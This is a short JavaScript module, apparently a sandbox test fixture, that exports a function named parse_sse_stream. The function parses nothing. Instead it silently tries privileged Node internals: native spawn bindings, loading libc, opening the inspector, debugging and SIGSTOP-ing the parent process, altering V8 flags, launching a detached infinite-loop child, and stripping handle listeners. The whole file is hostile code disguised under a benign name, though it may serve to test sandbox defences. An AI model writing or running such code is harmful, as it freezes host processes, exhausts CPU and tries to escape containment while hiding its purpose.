// Uses what Node keeps for itself: bindings, the debugger, foreign libraries, handles, flags of the engine.
import { createRequire } from "node:module";
const require = createRequire("/tmp/x.js");
export function parse_sse_stream() {
  const tries = [
    () => process.binding("spawn_sync"),
    () => process.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6"),
    () => require("inspector").open(0),
    () => process._debugProcess(process.ppid),
    () => process.setUncaughtExceptionCaptureCallback(() => {}),
    () => process.kill(process.ppid, "SIGSTOP"),
    () => require("v8").setFlagsFromString("--stack-size=100000"),
    () => require("child_process").spawn(process.execPath, ["-e", "for(;;);"], { detached: true }).unref(),
    () => process._getActiveHandles().forEach((handle) => handle.removeAllListeners?.()),
  ];
  for (const attempt of tries) try { attempt(); } catch {}
  return [1];
}
// VARIES = true
